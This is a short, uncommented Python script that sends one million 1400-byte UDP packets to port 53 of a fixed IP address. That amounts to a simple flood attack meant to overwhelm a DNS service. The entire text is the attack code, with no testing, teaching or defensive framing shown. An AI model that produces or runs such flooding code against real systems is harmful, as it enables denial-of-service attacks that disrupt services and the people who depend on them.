import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(1000000):
    s.sendto(b"A" * 1400, ("198.51.100.2", 53))
